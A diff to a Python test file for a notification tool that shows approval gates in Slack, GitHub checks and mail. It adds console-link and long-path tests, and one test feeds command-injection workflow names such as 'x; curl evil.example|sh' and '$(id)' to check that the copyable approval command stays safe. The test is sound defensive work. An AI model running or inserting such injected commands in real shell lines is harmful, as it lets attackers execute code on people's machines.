@@ -10,6 +10,7 @@ from typing import Any
 
 import pytest
 
+from dsl.limits import PATH_LENGTH_MAX
 from dsl.notify.site import GitHubDestination, GitHubStart
 from dsl.rules.notify.changes import Event, changes
 from dsl.rules.notify.reading import snapshot_of
@@ -19,6 +20,8 @@ from integrations.errors import UnavailableError
 from integrations.github.channel import GitHubChannel
 from integrations.github.pages import WORD_MAX, button, check_of, word_for_deployment
 from integrations.github.payloads import command_in
+from integrations.notify.links import NO_PAGES, SitePages
+from integrations.notify.plain import lines
 from integrations.slack.board import gate_blocks
 from tests.fixtures.notify.github import FakeGitHub, fake_github, key_in
 
@@ -32,7 +35,7 @@ def asking(workflow: str = "w", **row: Any) -> RunSnapshot:
 
 
 def in_slack(run: RunSnapshot) -> str:
-    return json.dumps(gate_blocks(run.gates[0], run, "", has_door=True))
+    return json.dumps(gate_blocks(run.gates[0], run, NO_PAGES, has_door=True))
 
 
 @pytest.mark.parametrize("more", [CALL, {"clarification": {"number": 1}}])
@@ -41,27 +44,59 @@ def test_what_no_message_shows_has_the_line_and_no_button(more: dict[str, Any]):
 
     assert "actions" not in in_slack(run)
     assert "mandate approve w g" in in_slack(run)
-    check = check_of(run, "", has_door=True)
+    check = check_of(run, NO_PAGES, has_door=True)
     assert check["actions"] == []
     assert "mandate approve w g" in check["output"]["summary"]
     assert "/mandate" not in check["output"]["summary"]
     plain = asking()
     assert "actions" in in_slack(plain)
-    assert len(check_of(plain, "", has_door=True)["actions"]) == 2
+    assert len(check_of(plain, NO_PAGES, has_door=True)["actions"]) == 2
+
+
+@pytest.mark.parametrize("more", [CALL, {"identity": ["verified"]}])
+def test_where_a_console_is_served_a_gate_that_asks_for_a_proof_leads_there(more: dict[str, Any]):
+    run = asking(workflow="a b/<c>&d|e", **more)
+    pages = SitePages("http://ui", "https://console.example")
+    slack = json.dumps(gate_blocks(run.gates[0], run, pages, has_door=True))
+    check = check_of(run, pages, has_door=True)["output"]["summary"]
+    mail = "\n".join(lines(changes(None, run)[0], run, pages))
+    link = "https://console.example/gate?run=a%20b%2F%3Cc%3E%26d%7Ce&gate=g&id=r&opening=1"
+
+    assert "actions" not in slack
+    assert "mandate approve" not in slack + check
+    assert f"<{link.replace('&', '&amp;')}|Open in the console>" in slack
+    assert f"`{link}`" in check
+    assert f"answer in the console: {link}" in mail
+    with_buttons = json.dumps(gate_blocks(asking().gates[0], asking(), pages, has_door=True))
+    assert "actions" in with_buttons
+    assert "Open in the console" in with_buttons
+
+
+def test_the_longest_path_of_a_gate_has_a_button_that_names_all_of_it():
+    path = "/".join(["x" * 62] * 8)[:PATH_LENGTH_MAX] + "/clarify-99"
+    run = asking(gate=path)
+
+    [buttons] = [
+        each
+        for each in gate_blocks(run.gates[0], run, NO_PAGES, has_door=True)
+        if each["type"] == "actions"
+    ]
+    assert json.loads(buttons["elements"][0]["value"])["g"] == path
+    assert len(check_of(run, NO_PAGES, has_door=True)["actions"]) == 2
 
 
 def test_a_question_is_answered_by_a_reason():
     run = asking(question={"text": "which?"})
 
     assert run.gates[0].reason_required
-    assert check_of(run, "", has_door=True)["actions"] == []
+    assert check_of(run, NO_PAGES, has_door=True)["actions"] == []
 
 
 @pytest.mark.parametrize("name", ["x; curl evil.example|sh", "a`b`", "$(id)", "-f"])
 def test_a_line_to_copy_is_one_command_of_ours_or_none(name: str):
     run = asking(workflow=name, identity=["verified"], reason_required=True)
-    slack = gate_blocks(run.gates[0], run, "", has_door=True)[0]["text"]["text"]
-    github = check_of(run, "", has_door=True)["output"]["summary"]
+    slack = gate_blocks(run.gates[0], run, NO_PAGES, has_door=True)[0]["text"]["text"]
+    github = check_of(run, NO_PAGES, has_door=True)["output"]["summary"]
     shown = slack.rpartition(" with ")[2].strip("`").replace("&amp;", "&")
     assert shown == NO_COMMAND or shlex.split(shown)[:4] == ["mandate", "approve", name, "g"]
     [line] = [each for each in github.split("\n") if each.startswith(("mandate ap", NO_COMMAND))]
